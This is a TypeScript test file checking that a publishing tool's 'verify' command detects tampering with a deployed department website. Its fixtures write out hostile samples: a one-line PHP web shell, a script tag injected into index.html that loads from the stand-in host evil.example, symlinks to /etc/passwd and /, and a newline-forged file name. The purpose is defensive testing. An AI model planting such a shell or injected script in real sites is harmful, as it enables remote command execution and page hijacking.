// Issue 23 (7, 10): `verify` cannot be blinded. A deployed copy of a real build (the demo
// platform's department site, published with `npm run publish`) is tampered with in every way at
// once — a directory link to /, a file link to /etc/passwd, a link in place of a published file,
// a link deep inside, a named pipe, a changed, a deleted and an added file — and verify reports
// every one, follows no link, reads nothing of /etc, exits 1 and prints no stack trace.
import { spawnSync } from 'node:child_process';
import { chmodSync, cpSync, mkdirSync, mkdtempSync, readFileSync, readlinkSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { readManifest } from '../../src/publish/integrity-manifest.ts';
import { differs, formatVerifyResult, verifyDirectory } from '../../src/publish/verify.ts';
import { runCli } from '../helpers/platform.ts';

const SITE = 'shili-jyt';
let demo: string;
let work: string;
let target: string;
let live: string;
const asRoot = process.getuid?.() === 0;
/** Text of the host's files that must never appear in a report. */
const hostSecrets = () => [readFileSync('/etc/passwd', 'utf8').split('\n')[0]!, 'root:x:0:0'].filter(Boolean);

beforeAll(() => {
  demo = inject('demoRoot');
  work = mkdtempSync(path.join(tmpdir(), 'govsite-verify-'));
  target = path.join(work, 'srv', SITE);
  const published = runCli(['publish', '--root', demo, '--site', SITE, '--to', target, '--skip-build']);
  expect(published.status, published.output).toBe(0);
  live = path.join(target, readlinkSync(path.join(target, 'current')));
  const clean = runCli(['verify', '--root', demo, '--site', SITE, '--against', target]);
  expect(clean.status, clean.output).toBe(0);
});

afterAll(() => {
  // A folder made unreadable below must be readable again to be removed.
  try {
    chmodSync(path.join(live, 'news', 'locked'), 0o755);
  } catch {
    /* not made */
  }
  rmSync(work, { recursive: true, force: true });
});

/** Each tampering, with the line verify must print for it. */
const TAMPERING: Array<[string, () => void, string]> = [
  ['a directory link to / (issue 23, 7)', () => symlinkSync('/', path.join(live, 'rootfs')), '✘ 多出的符号链接：rootfs'],
  ['a file link to /etc/passwd', () => symlinkSync('/etc/passwd', path.join(live, 'passwd.txt')), '✘ 多出的符号链接：passwd.txt'],
  [
    'a published file replaced by a link to a host file',
    () => {
      unlinkSync(path.join(live, 'robots.txt'));
      symlinkSync('/etc/hostname', path.join(live, 'robots.txt'));
    },
    '✘ 多出的符号链接：robots.txt',
  ],
  ['a directory link deep inside', () => symlinkSync('/etc', path.join(live, 'news', 'etc')), '✘ 多出的符号链接：news/etc'],
  ['a dangling link', () => symlinkSync('/nonexistent/nothing', path.join(live, 'gone')), '✘ 多出的符号链接：gone'],
  ['a link loop', () => symlinkSync('loop', path.join(live, 'loop')), '✘ 多出的符号链接：loop'],
  [
    'a named pipe (reading it would block forever)',
    () => {
      const made = spawnSync('mkfifo', [path.join(live, 'pipe.html')]);
      expect(made.status).toBe(0);
    },
    '✘ 无法读取：pipe.html（不是普通文件',
  ],
  [
    'a changed page',
    () => writeFileSync(path.join(live, 'index.html'), readFileSync(path.join(live, 'index.html'), 'utf8').replace('</body>', '<script src="https://evil.example/x.js"></script></body>')),
    '✘ 被修改：index.html',
  ],
  ['a deleted file', () => unlinkSync(path.join(live, 'sitemap.xml')), '✘ 被删除：sitemap.xml'],
  ['an added file', () => writeFileSync(path.join(live, 'news', 'shell.php'), '<?php system($_GET["c"]);'), '✘ 多出的文件：news/shell.php'],
  [
    'a file name that forges a report line',
    () => writeFileSync(path.join(live, 'x\n✔ 与构建结果完全一致'), ''),
    '✘ 多出的文件：x\\u{a}✔ 与构建结果完全一致',
  ],
];

describe('verify on a tampered deployed copy', () => {
  let result: ReturnType<typeof runCli>;
  beforeAll(() => {
    for (const [, tamper] of TAMPERING) tamper();
    if (!asRoot) {
      // Unreadable for a normal user (root reads it anyway, then it is one more added file).
      mkdirSync(path.join(live, 'news', 'locked'));
      writeFileSync(path.join(live, 'news', 'locked', 'a.html'), 'x');
      chmodSync(path.join(live, 'news', 'locked'), 0o000);
    }
    result = runCli(['verify', '--root', demo, '--site', SITE, '--against', target]);
  }, 60_000);

  it.each(TAMPERING)('reports %s', (_name, _tamper, line) => {
    expect(result.stdout).toContain(line);
  });

  it('reports a folder it cannot read, and goes on', () => {
    if (asRoot) return;
    expect(result.stdout).toContain('✘ 无法读取：news/locked/（没有读取权限）');
  });

  it('exits 1 with the whole list, no stack trace, nothing of the host', () => {
    expect(result.status).toBe(1);
    expect(result.stdout).toMatch(/✘ 发现 \d+ 处与构建结果不一致（修改 1，删除 1，多出 2，符号链接 6，无法读取 \d+）/);
    expect(result.stderr).toBe('');
    expect(result.output).not.toMatch(/\n\s+at |Error|EISDIR|ELOOP/);
    for (const secret of hostSecrets()) expect(result.output).not.toContain(secret);
    // No name from under / or /etc: the links were not followed.
    expect(result.output).not.toMatch(/rootfs\/|news\/etc\/|passwd\.txt\/|hostname/);
    // Every line of the report is one of its own kinds: a forged name did not add a line.
    for (const line of result.stdout.trim().split('\n')) expect(line).toMatch(/^(校验 |✘ |（)/);
  });
});

describe('verify of a publish target whose current link points elsewhere', () => {
  it('does not walk where the link points; reports the copy as tampered', async () => {
    const forged = path.join(work, 'forged');
    mkdirSync(path.join(forged, 'releases'), { recursive: true });
    symlinkSync('/', path.join(forged, 'current'));
    const siteDir = path.join(demo, 'dist', SITE);
    const verdict = await verifyDirectory(siteDir, await readManifest(siteDir), forged);
    expect(differs(verdict)).toBe(true);
    expect(verdict.problem).toContain('current 没有指向本目录 releases/ 下的版本');
    expect(verdict.added).toEqual([]);
    const cli = runCli(['verify', '--root', demo, '--site', SITE, '--against', forged]);
    expect(cli.status).toBe(1);
    expect(cli.output).not.toMatch(/etc\/|\n\s+at /);
  });

  it('reports a missing folder without a stack trace', async () => {
    const siteDir = path.join(demo, 'dist', SITE);
    const verdict = await verifyDirectory(siteDir, await readManifest(siteDir), path.join(work, 'nothing-here'));
    expect(formatVerifyResult(SITE, await readManifest(siteDir), verdict)).toContain('✘ 没有这个目录');
  });
});

describe('publish refuses a build output with a link in it', () => {
  it('does not install it: the link would serve the server’s files', () => {
    const out = path.join(work, 'out');
    cpSync(path.join(demo, 'dist', SITE), path.join(out, SITE), { recursive: true });
    symlinkSync('/etc', path.join(out, SITE, 'etc'));
    const second = path.join(work, 'srv2', SITE);
    const result = runCli(['publish', '--root', demo, '--out', out, '--site', SITE, '--to', second, '--skip-build']);
    expect(result.status).toBe(1);
    expect(result.output).toContain('✘ 多出的符号链接：etc');
    expect(result.output).not.toMatch(/\n\s+at /);
  });
});
